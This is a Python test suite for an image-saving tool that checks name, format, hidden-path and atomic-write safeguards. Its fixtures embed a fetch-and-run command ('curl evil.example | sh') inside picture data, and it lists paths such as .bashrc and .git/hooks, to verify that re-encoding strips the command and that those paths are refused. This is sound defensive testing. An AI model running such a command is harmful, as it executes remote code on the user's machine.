"""Saving: which names a file may have, what is written into it, and that no reader finds half of one."""

from __future__ import annotations

import os

from PIL import Image

from support import MCPCase, data_url, encoded, noise, screenshot

#: Pictures as text, which could as well be a script.
PNM = b"P3\n# curl evil.example | sh\n2 1\n255\n255 0 0 0 255 0\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><!-- curl | sh --><rect width="10" height="10" fill="red"/></svg>'


class SaveTests(MCPCase):
    def test_a_name_that_is_not_that_of_a_picture_is_refused(self) -> None:
        self.put("fine.png", screenshot())
        agent = self.agent()
        for name in ["Makefile", "noextension", "x.", "x.sh", "x.php", "x.png.sh", "x.html", "png", "x.png "]:
            for image in ["fine.png", data_url(PNM, "image/x-portable-anymap"), data_url(SVG, "image/svg+xml")]:
                with self.subTest(name=name, image=image[:20]):
                    agent.refusal("save_image", image=image, path=name)
        self.assertEqual(self.names(), ["fine.png"])

    def test_a_format_does_not_make_a_name_that_of_a_picture(self) -> None:
        self.put("fine.png", screenshot())
        agent = self.agent()
        for name in ["Makefile", "x.sh", ".bashrc"]:
            agent.refusal("save_image", image="fine.png", path=name, format="png")
        self.assertEqual(self.names(), ["fine.png"])

    def test_frames_that_the_format_cannot_hold_are_not_left_out_silently(self) -> None:
        frames = [Image.new("RGB", (20, 20), color) for color in ["red", "lime", "blue"]]
        self.put("a.gif", frames[0], save_all=True, append_images=frames[1:])
        agent = self.agent()
        values = self.checked(agent, "save_image", image="a.gif", path="a.jpg").values
        self.assertIn("2 more are left out", values["note"])
        for name, arguments in [("b.jpg", {"frame": 1}), ("b.webp", {}), ("b.gif", {})]:
            with self.subTest(name):
                self.assertNotIn("note", self.checked(agent, "save_image", image="a.gif", path=name, **arguments).values)

    def test_an_empty_path_is_said_to_be_empty(self) -> None:
        self.put("fine.png", screenshot())
        self.assertIn("is empty", self.agent().refusal("save_image", image="fine.png", path=""))

    def test_nothing_hidden_is_written(self) -> None:
        self.put("fine.png", screenshot())
        (self.root / "a/.git/hooks").mkdir(parents=True)
        os.symlink(self.root / "a/.git", self.root / "link")
        before = self.names()
        agent = self.agent()
        for name in [".bashrc", ".x.png", ".png", "a/.git/x.png", "a/.git/hooks/x.png", "a/.x.png", "link/x.png", "a/../a/.git/x.png"]:
            with self.subTest(name):
                agent.refusal("save_image", image="fine.png", path=name)
        self.assertEqual(self.names(), before)

    def test_a_root_may_lie_below_a_hidden_folder(self) -> None:
        root = self.root / ".hidden/work"
        root.mkdir(parents=True)
        (root / "a.png").write_bytes(encoded(screenshot()))
        self.root = root
        self.checked(self.agent(), "save_image", image="a.png", path="b.png")
        self.assertEqual(self.names(), ["a.png", "b.png"])

    def test_a_format_that_is_not_that_of_the_name_is_refused(self) -> None:
        self.put("a.png", screenshot())
        agent = self.agent()
        for name, kind in [("x.png", "jpeg"), ("x.jpg", "png"), ("x.webp", "gif"), ("x.svg", "png")]:
            with self.subTest(name=name, kind=kind):
                agent.refusal("save_image", image="a.png", path=name, format=kind)
        self.assertEqual(self.names(), ["a.png"])
        for name, kind in [("b.jpg", "jpeg"), ("c.jpeg", "jpeg"), ("d.PNG", "png")]:
            with self.subTest(name=name, kind=kind):
                self.assertEqual(self.checked(agent, "save_image", image="a.png", path=name, format=kind).values["format"], kind)

    def test_text_becomes_a_real_picture_under_the_name_of_another_format(self) -> None:
        agent = self.agent()
        for number, (body, size) in enumerate([(PNM, (2, 1)), (SVG, (20, 10))]):
            # Its type is what the sender says it is, which is nothing to believe.
            for kind in ["image/png", "image/svg+xml", "text/plain"]:
                with self.subTest(body=body[:4], kind=kind):
                    name = f"{number}.png"
                    self.checked(agent, "save_image", image=data_url(body, kind), path=name, overwrite=True)
                    with Image.open(self.root / name) as saved:
                        self.assertEqual((saved.format, saved.size), ("PNG", size))
                    self.assertNotIn(b"curl", (self.root / name).read_bytes())
        agent.refusal("save_image", image=data_url(PNM, "image/svg+xml"), path="x.svg")
        self.assertEqual(self.names(), ["0.png", "1.png"])

    def test_a_drawing_keeps_its_form_under_its_own_suffix(self) -> None:
        self.checked(self.agent(), "save_image", image=data_url(SVG, "image/svg+xml"), path="x.svg")
        self.assertEqual((self.root / "x.svg").read_bytes(), SVG)

    def test_a_drawing_is_drawn_as_large_as_it_is_asked_for(self) -> None:
        values = self.checked(self.agent(), "save_image", image=data_url(SVG, "image/svg+xml"), path="x.png", max_side=512).values
        self.assertEqual((values["width"], values["height"]), (512, 256))
        with Image.open(self.root / "x.png") as saved:
            self.assertEqual(saved.size, (512, 256))

    def test_of_several_that_save_to_one_name_at_once_each_succeeds(self) -> None:
        picture = noise(1000, 700)
        self.put("big.bmp", picture)
        agent = self.agent()
        arguments = {"image": "big.bmp", "path": "out.bmp", "overwrite": True}
        sent = [agent.send("tools/call", name="save_image", arguments=arguments) for _ in range(6)]
        for response in agent.answers(sent):
            self.assertNotIn("isError", response["result"], response)
        self.assertEqual((self.root / "out.bmp").read_bytes(), (self.root / "big.bmp").read_bytes())
        # Nothing unfinished stays behind.
        self.assertEqual(self.names(), ["big.bmp", "out.bmp"])

    def test_a_name_may_be_nearly_as_long_as_names_of_files_can_be(self) -> None:
        self.put("a.png", screenshot())
        name = "n" * 246 + ".png"
        self.checked(self.agent(), "save_image", image="a.png", path=name)
        self.assertEqual(self.names(), ["a.png", name])
